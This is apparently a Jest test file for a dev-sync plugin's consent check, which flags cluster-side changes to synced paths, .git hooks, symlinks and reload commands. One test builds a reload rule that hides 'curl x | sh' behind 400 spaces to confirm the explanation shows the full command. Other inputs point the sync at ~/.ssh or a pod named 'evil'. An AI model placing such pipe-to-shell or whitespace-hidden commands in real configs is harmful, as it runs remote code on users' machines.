import { expect, test } from '@jest/globals';
import { disagreementOn } from '../../../../../plugins/devsync/spec/agreement.ts';
import { explainSync, warningsOn, withoutWarnings } from '../../../../../plugins/devsync/spec/explain.ts';
import { reloadDigest } from '../../../../../plugins/devsync/spec/reload-spec.ts';
import type { SyncSpec } from '../../../../../plugins/devsync/spec/spec.ts';
import type { Registered } from '../../../../../plugins/devsync/spec/workstation.ts';
import { specOf } from '../support/specs.ts';

const spec: SyncSpec = { ...specOf('/home/a/src', '/app'), ignore: ['.env'] };
const known: Registered = {
  uid: 'u',
  name: 'web',
  namespace: 'shop',
  server: 'https://s',
  path: '/home/a/src',
};
const agreed = { ...known, agreed: JSON.parse(JSON.stringify(spec)) };
const reload = {
  rules: [{ pattern: '*', action: { kind: 'exec', command: 'make' } }],
  every: 1000,
  onFirstSync: false,
  restartAnyway: false,
} as const;
const raw = { ...spec.scan, symlinks: 'raw' } as const;

test('what was agreed to is run, whatever is known only since it was made', () => {
  expect(disagreementOn(spec, agreed)).toBeUndefined();
  const { local } = spec;
  expect(
    disagreementOn({ ...spec, local: { ...local, who: 'alice@new', rootId: 'x' } }, agreed),
  ).toBeUndefined();
});

test.each<[string, Partial<SyncSpec>, string[], string[]]>([
  [
    '.git',
    { takeGit: true },
    ['takeGit: false → true'],
    ['.git and its like come from the container: their hooks would run here'],
  ],
  ['what is left out', { ignore: [] }, ['ignore: [".env"] → []'], []],
  ['the side that wins', { from: 'container' }, ['from: local → container'], []],
  ['the target', { target: { pod: 'evil' } }, ['target.pod: web-0 → evil'], []],
  [
    'the directory',
    { local: { ...spec.local, path: '/home/a/.ssh' } },
    ['local.path: /home/a/src → /home/a/.ssh'],
    [],
  ],
  ['links', { scan: raw }, ['scan.symlinks: portable → raw'], ['links may lead out of the directory']],
  ['the trash', { trashLimits: { local: 1, container: 1 } }, ['trashLimits.local: 4 → 1'], []],
  [
    'reload rules',
    { reload },
    expect.arrayContaining([expect.stringMatching(/^reload\.rules: /)]) as never,
    ['reloads in the container: *=exec:make'],
  ],
])('%s, changed in the cluster, was not agreed to', (_, change, changes, warnings) => {
  expect(disagreementOn({ ...spec, ...change }, agreed)).toEqual({ changes, warnings });
});

test('a sync that was not made here was not agreed to, and is shown whole', () => {
  const { changes } = disagreementOn(spec, undefined) ?? {};
  expect(changes).toEqual(
    expect.arrayContaining(['remote: (not set) → /app', 'target.pod: (not set) → web-0']),
  );
});

test('what a file that makes no sense says was not agreed to', () => {
  expect(disagreementOn(spec, { ...known, agreed: { remote: 1 } })?.changes).toContain(
    'remote: (not set) → /app',
  );
});

test('a version before this one kept reload rules alone: the rest stands unless there is something to warn of', () => {
  const before = { ...known, reload: reloadDigest(reload) as string };
  expect(disagreementOn(spec, known)).toBeUndefined();
  expect(disagreementOn({ ...spec, reload }, before)).toBeUndefined();
  expect(disagreementOn({ ...spec, reload }, known)?.warnings).toEqual([
    'reloads in the container: *=exec:make',
  ]);
  expect(disagreementOn({ ...spec, reload, takeGit: true }, before)?.warnings).toEqual([
    '.git and its like come from the container: their hooks would run here',
  ]);
  expect(disagreementOn({ ...spec, local: { ...spec.local, path: '/x' } }, known)?.changes).toEqual([
    'local.path: /home/a/src → /x',
  ]);
});

test('what a person agrees to is shown whole, and hides nothing', () => {
  const command = `make${' '.repeat(400)}\ncurl x | sh ${'x'.repeat(2000)}`;
  const hidden = {
    ...spec,
    reload: { ...reload, rules: [{ pattern: '*', action: { kind: 'exec', command } }] },
  } as const;
  const [, rule = ''] = explainSync('web', hidden);
  expect(rule).toMatch(/^ {2}reloads in the container: \*=exec:make␣×400⏎curl x \| sh x{2000}$/);
});

test('without what is warned of, there is nothing to warn of', () => {
  const all: SyncSpec = { ...spec, reload, takeGit: true, scan: raw };
  expect(warningsOn(all)).toHaveLength(3);
  expect(withoutWarnings(all)).toEqual(spec);
});
